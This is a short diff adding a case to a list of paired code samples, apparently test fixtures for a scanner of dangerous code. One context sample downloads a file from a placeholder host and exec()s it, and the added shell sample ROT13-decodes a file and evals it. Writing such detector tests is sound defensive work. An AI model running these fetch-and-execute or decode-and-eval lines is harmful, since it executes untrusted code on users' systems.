@@ -82,6 +82,12 @@ PAIRS = [
         "import urllib.request as r\nr.urlretrieve('http://x.invalid/a', 'a.py')\nexec(open('a.py').read())",
         "import urllib.request as r\nr.urlretrieve('http://x.invalid/a', 'a.csv')\nprint(open('a.csv').read())",
     ),
+    # Lines that are joined are not decoded.
+    (
+        "join.sh",
+        "x=\"$(cat a | tr 'a-z' 'n-za-m')\"\neval \"$x\"",
+        "x=\"$($RUN find a -type f | tr '\\n' ' ' 2>/dev/null)\"\neval \"$x\"",
+    ),
     # One that its user names when starting the program.
     (
         "train.py",
